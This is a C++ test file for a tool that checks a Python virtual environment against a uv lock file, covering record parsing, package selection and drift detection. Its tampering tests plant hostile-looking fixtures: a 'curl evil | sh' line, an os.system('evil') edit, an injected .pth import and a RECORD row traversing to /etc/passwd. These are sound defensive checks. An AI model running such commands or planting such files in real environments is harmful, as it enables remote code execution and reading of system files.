// --venv: RECORD/METADATA parsing, venv discovery, the lock walk `uv sync` does for
// one environment, and the comparison of a fake environment (dist-info trees written
// here, with RECORD hashes computed here) with a lock.

#include "lock_texts.hpp"
#include "lockkit/util/sha256.hpp"
#include "lockkit/install/install_selection.hpp"
#include "lockkit/install/installed_distribution.hpp"
#include "lockkit/verify/venv_check.hpp"
#include "lockkit/install/virtual_environment.hpp"

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <map>
#include <unistd.h>

using namespace lockkit;
using namespace lockkit::verify;
using namespace lockkit::install;
using namespace lockkit::verify::testing;
namespace fs = std::filesystem;

namespace {

// A project `app` (editable, at ".") with a fork on python_full_version (numpyish),
// a Windows-only dependency, an extra, two groups, and an extra requested by an edge
// (alpha -> beta[x] -> delta).
constexpr const char* k_lock = R"(version = 1
revision = 3
requires-python = ">=3.9"
resolution-markers = [
    "python_full_version >= '3.11'",
    "python_full_version < '3.11'",
]

[[package]]
name = "alpha"
version = "1.0"
source = { registry = "https://pypi.org/simple" }
dependencies = [
    { name = "beta", extra = ["x"] },
]

[[package]]
name = "app"
version = "0.1.0"
source = { editable = "." }
dependencies = [
    { name = "alpha" },
    { name = "numpyish", version = "1.26.4", source = { registry = "https://pypi.org/simple" }, marker = "python_full_version < '3.11'" },
    { name = "numpyish", version = "2.1.0", source = { registry = "https://pypi.org/simple" }, marker = "python_full_version >= '3.11'" },
    { name = "winonly", marker = "sys_platform == 'win32'" },
]

[package.optional-dependencies]
fast = [
    { name = "gamma" },
]

[package.dev-dependencies]
dev = [
    { name = "pytestish" },
]
lint = [
    { name = "ruffish" },
]

[package.metadata]
requires-dist = [
    { name = "alpha" },
    { name = "gamma", marker = "extra == 'fast'" },
    { name = "numpyish" },
    { name = "winonly", marker = "sys_platform == 'win32'" },
]
provides-extras = ["fast"]

[package.metadata.requires-dev]
dev = [{ name = "pytestish" }]
lint = [{ name = "ruffish" }]

[[package]]
name = "beta"
version = "2.0"
source = { registry = "https://pypi.org/simple" }

[package.optional-dependencies]
x = [
    { name = "delta" },
]

[[package]]
name = "delta"
version = "0.3"
source = { registry = "https://pypi.org/simple" }

[[package]]
name = "gamma"
version = "0.5"
source = { registry = "https://pypi.org/simple" }

[[package]]
name = "numpyish"
version = "1.26.4"
source = { registry = "https://pypi.org/simple" }
resolution-markers = [
    "python_full_version < '3.11'",
]

[[package]]
name = "numpyish"
version = "2.1.0"
source = { registry = "https://pypi.org/simple" }
resolution-markers = [
    "python_full_version >= '3.11'",
]

[[package]]
name = "pytestish"
version = "8.0"
source = { registry = "https://pypi.org/simple" }

[[package]]
name = "ruffish"
version = "0.4"
source = { registry = "https://pypi.org/simple" }

[[package]]
name = "winonly"
version = "1.0"
source = { registry = "https://pypi.org/simple" }
)";

pep508::MarkerEnvironment linux_env(std::string python = "3.12.4") {
    pep508::MarkerEnvironment env;
    env.implementation_name = "cpython";
    env.implementation_version = python;
    env.os_name = "posix";
    env.platform_machine = "x86_64";
    env.platform_python_implementation = "CPython";
    env.platform_system = "Linux";
    env.python_full_version = python;
    env.python_version = python.substr(0, python.rfind('.'));
    env.sys_platform = "linux";
    return env;
}

std::vector<std::string> names(const std::vector<SelectedPackage>& selected) {
    std::vector<std::string> out;
    for (const auto& s : selected) {
        out.push_back(s.package->id.name + "==" + s.package->id.version.value_or("?"));
    }
    return out;
}

void write(const fs::path& path, std::string_view bytes) {
    fs::create_directories(path.parent_path());
    std::ofstream(path, std::ios::binary) << bytes;
}

std::string record_hash(std::string_view bytes) {
    return record_hash_from_hex(sha256_hex(bytes));
}

/// A virtual environment in a temp folder with `lib/python3.12/site-packages`.
class FakeVenv {
public:
    explicit FakeVenv(std::string_view cfg = "home = /usr/bin\nimplementation = CPython\nuv = 0.12.5\n"
                                             "version_info = 3.12.4\ninclude-system-site-packages = false\n") {
        static int counter = 0;
        root = fs::temp_directory_path() /
               ("lockkit-venv-" + std::to_string(::getpid()) + "-" + std::to_string(counter++));
        fs::remove_all(root);
        site = root / "lib" / "python3.12" / "site-packages";
        fs::create_directories(site);
        fs::create_directories(root / "bin");
        write(root / "pyvenv.cfg", cfg);
        write(site / "_virtualenv.py", "# uv's distutils patch\n");
        write(site / "_virtualenv.pth", "import _virtualenv\n");
    }
    ~FakeVenv() { fs::remove_all(root); }
    FakeVenv(const FakeVenv&) = delete;
    FakeVenv& operator=(const FakeVenv&) = delete;

    /// Installs a distribution the way an installer does: files, METADATA, INSTALLER,
    /// optional direct_url.json, and a RECORD with every file's hash (RECORD itself unhashed).
    void install(const std::string& name, const std::string& version, std::map<std::string, std::string> files = {},
                 std::optional<std::string> direct_url = std::nullopt) {
        const std::string dist_info = name + "-" + version + ".dist-info";
        if (files.empty()) {
            files[name + "/__init__.py"] = "__version__ = \"" + version + "\"\n";
        }
        files[dist_info + "/METADATA"] = "Metadata-Version: 2.1\nName: " + name + "\nVersion: " + version + "\n\n";
        files[dist_info + "/INSTALLER"] = "uv";
        if (direct_url) {
            files[dist_info + "/direct_url.json"] = *direct_url;
        }
        std::string record;
        for (const auto& [path, bytes] : files) {
            write(site / path, bytes);
            record += path + "," + record_hash(bytes) + "," + std::to_string(bytes.size()) + "\n";
        }
        record += dist_info + "/RECORD,,\n";
        write(site / dist_info / "RECORD", record);
    }

    /// The packages the lock selects for Linux / CPython 3.12 with the dev group.
    void install_clean_sync() {
        install("alpha", "1.0");
        install("app", "0.1.0", {{"app.pth", "/src/app\n"}},
                R"({"url":"file:///src/app","dir_info":{"editable":true}})");
        install("beta", "2.0");
        install("delta", "0.3");
        install("numpyish", "2.1.0", {{"numpyish/__init__.py", "x = 2\n"}, {"../../../bin/numpyish-config", "#!/bin/sh\n"}});
        install("pytestish", "8.0");
    }

    fs::path root;
    fs::path site;
};

VenvCheckResult check(const FakeVenv& venv, VenvCheckOptions options = {}) {
    if (!options.environment) {
        options.environment = linux_env();
    }
    auto result = check_venv(parse(k_lock), venv.root, options);
    if (!result) {
        FAIL(result.error());
    }
    return *result;
}

std::string dump(const std::vector<Finding>& findings) {
    std::string out;
    for (const auto& f : findings) {
        out += std::string(severity_name(f.severity)) + "[" + f.rule + "] " + f.package + ": " + f.message + "\n";
    }
    return out;
}

} // namespace

// ---- parsing ---------------------------------------------------------------------------

TEST_CASE("RECORD rows are CSV with quoting", "[verify][venv]") {
    const auto rows = parse_record("a/__init__.py,sha256=abc,12\r\n"
                                   "\"dir with, comma/x.py\",sha256=def,3\n"
                                   "\"quo\"\"te.py\",,\n"
                                   "\n"
                                   "a-1.0.dist-info/RECORD,,\n"
                                   "no-newline.py,sha256=xyz,notanumber");
    REQUIRE(rows);
    REQUIRE(rows->size() == 5);
    CHECK((*rows)[0].path == "a/__init__.py");
    CHECK((*rows)[0].hash == "sha256=abc");
    CHECK((*rows)[0].size == 12u);
    CHECK((*rows)[1].path == "dir with, comma/x.py");
    CHECK((*rows)[1].line == 2);
    CHECK((*rows)[2].path == "quo\"te.py");
    CHECK((*rows)[2].hash.empty());
    CHECK((*rows)[3].line == 5);
    CHECK((*rows)[4].path == "no-newline.py");
    CHECK_FALSE((*rows)[4].size);
    CHECK_FALSE(parse_record("ok.py,,\n\"never closed,sha256=x,1\n"));
}

TEST_CASE("RECORD hashes are urlsafe base64 without padding", "[verify][venv]") {
    CHECK(record_hash("") == "sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU");
    CHECK(record_hash("abc") == "sha256=ungWv48Bz-pBQUDeXa4iI7ADYaOWF3qctBD_YfIAFa0");
}

TEST_CASE("core metadata: Name and Version from the header block", "[verify][venv]") {
    const auto m = parse_core_metadata("Metadata-Version: 2.1\r\nname: Foo_Bar\r\nSummary: x\r\n  continued\r\n"
                                       "Version: 1.0.post1\r\n\r\nVersion: 9 (in the description)\r\n");
    CHECK(m.name == "Foo_Bar");
    CHECK(m.version == "1.0.post1");
    const auto direct = parse_direct_url(R"({"url": "https://github.com/o/r", "vcs_info": {"vcs": "git", "commit_id": "abc"}})");
    REQUIRE(direct);
    CHECK(direct->kind == DirectUrl::Kind::Vcs);
    CHECK(direct->commit_id == "abc");
    CHECK_FALSE(parse_direct_url("[1]"));
}

// ---- the environment -------------------------------------------------------------------

TEST_CASE("virtual environments are found by pyvenv.cfg", "[verify][venv]") {
    FakeVenv venv;
    SECTION("uv's layout") {
        fs::create_directory_symlink("lib", venv.root / "lib64");
        const auto opened = open_virtual_environment(venv.root);
        REQUIRE(opened);
        CHECK(opened->python_version == "3.12.4");
        CHECK(opened->uv_version == "0.12.5");
        CHECK_FALSE(opened->seeded);
        CHECK(opened->site_packages.size() == 1);  // lib64 -> lib counted once
        const auto env = marker_environment(*opened);
        CHECK(env.python_version == "3.12");
        CHECK(env.implementation_name == "cpython");
        CHECK_FALSE(env.sys_platform.empty());
    }
    SECTION("virtualenv's version_info and the venv module's version") {
        write(venv.root / "pyvenv.cfg", "home = /usr/bin\nversion_info = 3.12.1.final.0\n");
        CHECK(open_virtual_environment(venv.root)->python_version == "3.12.1");
        write(venv.root / "pyvenv.cfg", "home = /usr/bin\nversion = 3.12.2\n");
        CHECK(open_virtual_environment(venv.root)->python_version == "3.12.2");
        write(venv.root / "pyvenv.cfg", "home = /usr/bin\n");
        CHECK(open_virtual_environment(venv.root)->python_version == "3.12");  // from lib/python3.12
    }
    SECTION("a folder that is not a venv, with a hint for ./.venv") {
        const auto parent = venv.root.parent_path() / (venv.root.filename().string() + "-project");
        fs::create_directories(parent);
        fs::rename(venv.root, parent / ".venv");
        const auto opened = open_virtual_environment(parent);
        REQUIRE_FALSE(opened);
        CHECK_THAT(opened.error(), Catch::Contains("no pyvenv.cfg") && Catch::Contains("hint: did you mean"));
        fs::rename(parent / ".venv", venv.root);
        fs::remove_all(parent);
    }
    SECTION("Windows layout") {
        fs::remove_all(venv.root / "lib");
        write(venv.root / "Lib" / "site-packages" / "x.txt", "");
        const auto opened = open_virtual_environment(venv.root);
        REQUIRE(opened);
        CHECK(opened->site_packages.front().filename() == "site-packages");
    }
    SECTION("no site-packages") {
        fs::remove_all(venv.root / "lib");
        CHECK_FALSE(open_virtual_environment(venv.root));
    }
}

// ---- what uv sync installs -------------------------------------------------------------

TEST_CASE("the lock is walked like uv sync for one environment", "[verify][venv]") {
    const auto lock = parse(k_lock);
    SECTION("default: the project, its dependencies for this platform, group dev") {
        const auto selected = select_packages(lock, linux_env(), {});
        REQUIRE(selected);
        CHECK(names(*selected) == std::vector<std::string>{"alpha==1.0", "app==0.1.0", "beta==2.0", "delta==0.3",
                                                           "numpyish==2.1.0", "pytestish==8.0"});
        CHECK(std::count_if(selected->begin(), selected->end(), [](const auto& s) { return s.root; }) == 1);
    }
    SECTION("forks follow the Python version; platform markers the platform") {
        auto env = linux_env("3.10.2");
        env.sys_platform = "win32";
        env.os_name = "nt";
        const auto selected = select_packages(lock, env, {});
        REQUIRE(selected);
        const auto n = names(*selected);
        CHECK(std::find(n.begin(), n.end(), "numpyish==1.26.4") != n.end());
        CHECK(std::find(n.begin(), n.end(), "winonly==1.0") != n.end());
    }
    SECTION("extras and groups") {
        InstallSelection s;
        s.extras = {"Fast"};
        s.groups = {"lint"};
        s.no_default_groups = true;
        const auto n = names(*select_packages(lock, linux_env(), s));
        CHECK(std::find(n.begin(), n.end(), "gamma==0.5") != n.end());
        CHECK(std::find(n.begin(), n.end(), "ruffish==0.4") != n.end());
        CHECK(std::find(n.begin(), n.end(), "pytestish==8.0") == n.end());

        InstallSelection all;
        all.all_groups = true;
        all.all_extras = true;
        CHECK(select_packages(lock, linux_env(), all)->size() == 8);

        InstallSelection defaults;
        defaults.default_groups = std::vector<std::string>{"lint"};
        const auto d = names(*select_packages(lock, linux_env(), defaults));
        CHECK(std::find(d.begin(), d.end(), "ruffish==0.4") != d.end());
        CHECK(std::find(d.begin(), d.end(), "pytestish==8.0") == d.end());
    }
    SECTION("unknown extras, groups and members are refused") {
        InstallSelection s;
        s.extras = {"nope"};
        CHECK_FALSE(select_packages(lock, linux_env(), s));
        s = {};
        s.groups = {"nope"};
        CHECK_FALSE(select_packages(lock, linux_env(), s));
        s = {};
        s.packages = {"alpha"};
        const auto r = select_packages(lock, linux_env(), s);
        REQUIRE_FALSE(r);
        CHECK_THAT(r.error(), Catch::Contains("not a workspace member") && Catch::Contains("app"));
    }
}

TEST_CASE("tool.uv.default-groups replaces dev as the default", "[verify][venv]") {
    FakeVenv scratch;  // only for a temp folder
    const auto pyproject = scratch.root / "pyproject.toml";
    write(pyproject, "[project]\nname = \"app\"\nversion = \"0.1.0\"\n\n[tool.uv]\ndefault-groups = [\"lint\"]\n");
    InstallSelection s;
    REQUIRE(read_default_groups(pyproject, s));
    REQUIRE(s.default_groups);
    CHECK(*s.default_groups == std::vector<std::string>{"lint"});
    write(pyproject, "[tool.uv]\ndefault-groups = \"all\"\n");
    InstallSelection all;
    REQUIRE(read_default_groups(pyproject, all));
    CHECK(all.default_groups_all);
    CHECK(select_packages(parse(k_lock), linux_env(), all)->size() == 7);  // dev and lint, no extra
    write(pyproject, "[tool.uv]\ndefault-groups = 3\n");
    CHECK_FALSE(read_default_groups(pyproject, s));
}

TEST_CASE("a workspace without a root project syncs every member and its root groups", "[verify][venv]") {
    const auto lock = parse(R"(version = 1
revision = 3
requires-python = ">=3.12"

[manifest]
members = [
    "lib-a",
    "lib-b",
]

[manifest.dependency-groups]
dev = [{ name = "gamma" }]

[[package]]
name = "gamma"
version = "0.5"
source = { registry = "https://pypi.org/simple" }

[[package]]
name = "lib-a"
version = "1.0"
source = { editable = "packages/lib-a" }

[[package]]
name = "lib-b"
version = "1.0"
source = { virtual = "packages/lib-b" }
dependencies = [
    { name = "lib-a" },
]
)");
    const auto selected = select_packages(lock, linux_env(), {});
    REQUIRE(selected);
    CHECK(names(*selected) == std::vector<std::string>{"gamma==0.5", "lib-a==1.0"});  // lib-b is virtual
    InstallSelection only_a;
    only_a.packages = {"lib_a"};
    CHECK(names(*select_packages(lock, linux_env(), only_a)) == std::vector<std::string>{"lib-a==1.0"});
}

TEST_CASE("conflict markers follow the activated extras", "[verify][venv]") {
    const auto lock = parse(R"(version = 1
revision = 3
requires-python = ">=3.12"
conflicts = [[
    { package = "app", extra = "cpu" },
    { package = "app", extra = "gpu" },
]]

[[package]]
name = "app"
version = "0.1.0"
source = { virtual = "." }

[package.optional-dependencies]
cpu = [
    { name = "torchish", version = "1.0", source = { registry = "https://pypi.org/simple" }, marker = "extra == 'extra-3-app-cpu'" },
]
gpu = [
    { name = "torchish", version = "2.0", source = { registry = "https://pypi.org/simple" }, marker = "extra == 'extra-3-app-gpu'" },
]

[[package]]
name = "torchish"
version = "1.0"
source = { registry = "https://pypi.org/simple" }

[[package]]
name = "torchish"
version = "2.0"
source = { registry = "https://pypi.org/simple" }
)");
    InstallSelection s;
    s.extras = {"gpu"};
    CHECK(names(*select_packages(lock, linux_env(), s)) == std::vector<std::string>{"torchish==2.0"});
    CHECK(select_packages(lock, linux_env(), {})->empty());
}

// ---- the comparison --------------------------------------------------------------------

TEST_CASE("a venv synced from the lock is clean", "[verify][venv]") {
    FakeVenv venv;
    venv.install_clean_sync();
    const auto result = check(venv);
    INFO(dump(result.findings));
    CHECK(result.findings.empty());
    CHECK(result.distributions_checked == 6);
    CHECK(result.expected == 6);
    CHECK(result.files_hashed == 6 * 3 + 2);  // module + METADATA + INSTALLER each; app.pth, direct_url.json
    CHECK(result.environment == "CPython 3.12.4, linux x86_64");

    VenvCheckOptions one_thread;
    one_thread.jobs = 1;
    CHECK(check(venv, one_thread).files_hashed == result.files_hashed);
}

TEST_CASE("drift: missing, wrong version, extraneous, wrong source", "[verify][venv]") {
    FakeVenv venv;
    venv.install_clean_sync();
    SECTION("a package removed is missing") {
        fs::remove_all(venv.site / "pytestish-8.0.dist-info");
        fs::remove_all(venv.site / "pytestish");
        const auto f = with_rule(check(venv).findings, rule::venv_missing);
        REQUIRE(f.size() == 1);
        CHECK(f[0].package == "pytestish");
        CHECK(f[0].severity == Severity::Error);
        CHECK(f[0].line > 0);
    }
    SECTION("another version is a mismatch") {
        fs::remove_all(venv.site / "beta-2.0.dist-info");
        venv.install("beta", "2.1");
        const auto findings = check(venv).findings;
        INFO(dump(findings));
        const auto f = with_rule(findings, rule::venv_version_mismatch);
        REQUIRE(f.size() == 1);
        CHECK_THAT(f[0].message, Catch::Contains("installed as 2.1") && Catch::Contains("the lock has 2.0"));
        CHECK(findings.size() == 1);
    }
    SECTION("an equal version spelled differently is fine") {
        fs::remove_all(venv.site / "beta-2.0.dist-info");
        venv.install("Beta", "2.0.0", {{"beta/__init__.py", "x = 1\n"}});
        const auto findings = check(venv).findings;
        INFO(dump(findings));
        CHECK(findings.empty());
    }
    SECTION("packages the lock does not select are extraneous warnings") {
        venv.install("ruffish", "0.4");  // locked, but group lint was not synced
        venv.install("stranger", "1.0");
        const auto f = with_rule(check(venv).findings, rule::venv_extraneous);
        REQUIRE(f.size() == 2);
        CHECK(f[0].package == "ruffish");
        CHECK(f[0].severity == Severity::Warning);
        CHECK_THAT(f[0].message, Catch::Contains("does not select it"));
        CHECK_THAT(f[1].message, Catch::Contains("the lock does not have it"));
        VenvCheckOptions lint;
        lint.selection.groups = {"lint"};
        CHECK(with_rule(check(venv, lint).findings, rule::venv_extraneous).size() == 1);
    }
    SECTION("seed packages: tolerated unless uv made the venv without --seed") {
        venv.install("pip", "24.0");
        CHECK(with_rule(check(venv).findings, rule::venv_extraneous).size() == 1);
        write(venv.root / "pyvenv.cfg", "home = /usr/bin\nuv = 0.12.5\nversion_info = 3.12.4\nseed = true\n");
        CHECK(check(venv).findings.empty());
        write(venv.root / "pyvenv.cfg", "home = /usr/bin\nversion = 3.12.4\n");  // python -m venv
        CHECK(check(venv).findings.empty());
    }
    SECTION("a registry package installed from a file, an editable member copied") {
        fs::remove_all(venv.site / "alpha-1.0.dist-info");
        venv.install("alpha", "1.0", {}, R"({"url":"file:///tmp/alpha-1.0-py3-none-any.whl","archive_info":{}})");
        fs::remove_all(venv.site / "app-0.1.0.dist-info");
        venv.install("app", "0.1.0", {{"app.pth", "/src/app\n"}}, R"({"url":"file:///src/app","dir_info":{}})");
        const auto f = with_rule(check(venv).findings, rule::venv_source_mismatch);
        REQUIRE(f.size() == 2);
        CHECK(f[0].package == "alpha");
        CHECK(f[0].severity == Severity::Error);
        CHECK_THAT(f[0].message, Catch::Contains("file:///tmp/alpha-1.0-py3-none-any.whl"));
        CHECK(f[1].package == "app");
        CHECK(f[1].severity == Severity::Warning);
    }
    SECTION("a Python outside requires-python") {
        VenvCheckOptions old;
        old.environment = linux_env("3.8.10");
        const auto f = with_rule(check(venv, old).findings, rule::venv_version_mismatch);
        REQUIRE_FALSE(f.empty());
        CHECK(f[0].package.empty());
        CHECK_THAT(f[0].message, Catch::Contains("3.8.10") && Catch::Contains(">=3.9"));
    }
}

TEST_CASE("tampering: RECORD hashes, missing files, escaping rows, unrecorded files", "[verify][venv]") {
    FakeVenv venv;
    venv.install_clean_sync();
    SECTION("an edited file is a record mismatch with both hashes") {
        write(venv.site / "alpha" / "__init__.py", "import os; os.system('evil')\n");
        const auto f = with_rule(check(venv).findings, rule::venv_record_mismatch);
        REQUIRE(f.size() == 1);
        CHECK(f[0].package == "alpha");
        CHECK(f[0].version == "1.0");
        CHECK_THAT(f[0].message, Catch::Contains("alpha/__init__.py") &&
                                     Catch::Contains(record_hash("import os; os.system('evil')\n")) &&
                                     Catch::Contains(record_hash("__version__ = \"1.0\"\n")));
    }
    SECTION("a script outside site-packages is checked too") {
        write(venv.root / "bin" / "numpyish-config", "#!/bin/sh\ncurl evil | sh\n");
        const auto f = with_rule(check(venv).findings, rule::venv_record_mismatch);
        REQUIRE(f.size() == 1);
        CHECK_THAT(f[0].message, Catch::Contains("bin/numpyish-config"));
    }
    SECTION("a deleted file is missing") {
        fs::remove(venv.site / "delta" / "__init__.py");
        const auto f = with_rule(check(venv).findings, rule::venv_record_missing_file);
        REQUIRE(f.size() == 1);
        CHECK(f[0].package == "delta");
        CHECK_THAT(f[0].message, Catch::Contains("delta/__init__.py"));
    }
    SECTION("a row pointing outside the venv is refused, never opened") {
        std::ofstream(venv.site / "beta-2.0.dist-info" / "RECORD", std::ios::app)
            << "../../../../../../etc/passwd,sha256=AAAA,1\n";
        const auto f = with_rule(check(venv).findings, rule::venv_record_invalid);
        REQUIRE(f.size() == 1);
        CHECK_THAT(f[0].message, Catch::Contains("points outside the environment"));
    }
    SECTION("a dist-info without RECORD") {
        fs::remove(venv.site / "beta-2.0.dist-info" / "RECORD");
        const auto findings = check(venv).findings;
        const auto f = with_rule(findings, rule::venv_record_invalid);
        REQUIRE(f.size() == 1);
        CHECK(f[0].package == "beta");
        // its files are then unaccounted for
        CHECK(with_rule(findings, rule::venv_unrecorded_file).size() == 1);
    }
    SECTION("files no RECORD lists") {
        write(venv.site / "zzz-injected.pth", "import evil\n");
        write(venv.site / "alpha" / "extra.py", "evil = 1\n");
        write(venv.site / "alpha" / "__pycache__" / "__init__.cpython-312.pyc", "bytecode");
        write(venv.site / "loose" / "a.py", "");
        const auto findings = check(venv).findings;
        INFO(dump(findings));
        const auto f = with_rule(findings, rule::venv_unrecorded_file);
        REQUIRE(f.size() == 3);
        CHECK(f[0].package.empty());  // lock-wide ones sort first
        CHECK(f[2].package == "alpha");
        CHECK_THAT(dump(f), Catch::Contains("zzz-injected.pth") && Catch::Contains("alpha/extra.py") &&
                                Catch::Contains("folder") && !Catch::Contains("cpython-312.pyc"));
        CHECK(f[0].severity == Severity::Warning);
    }
}
